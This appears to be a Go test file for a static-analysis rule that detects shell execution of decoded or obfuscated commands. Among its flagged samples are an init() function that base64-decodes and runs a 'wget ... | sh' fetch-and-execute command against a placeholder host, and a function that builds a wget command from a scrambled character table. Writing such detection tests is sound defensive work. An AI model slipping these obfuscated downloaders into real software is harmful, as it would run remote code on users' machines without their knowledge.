package main

import (
	"encoding/base64"
	"os/exec"
)

func init() {
	cmd, _ := base64.StdEncoding.DecodeString("d2dldCAtTyAtIGh0dHA6Ly9leGFtcGxlLmludmFsaWQveCB8IHNo")
	// ruleid: go-exec-decoded-command
	exec.Command("/bin/sh", "-c", string(cmd)).Start()
}

func run() {
	// ruleid: go-exec-decoded-command
	exec.Command("sh", "-c", decodeTable(table)).Run()
}

func readConfig(s string) []byte {
	// ok: go-exec-decoded-command
	raw, _ := base64.StdEncoding.DecodeString(s)
	return raw
}

func version() string {
	// ok: go-exec-decoded-command
	out, _ := exec.Command("git", "describe", "--tags").Output()
	return string(out)
}

func eGtrXa() error {
	t := []string{"h", "s", " ", "-", "O", "/", "c", "b", "a", "n", "i", "w", "e", "g", "t"}
	cmd := t[11] + t[13] + t[12] + t[14] + t[2] + t[3] + t[4] + t[2] + t[3]
	// ruleid: go-exec-decoded-command
	return exec.Command("/bin/sh", "-c", cmd).Start()
}
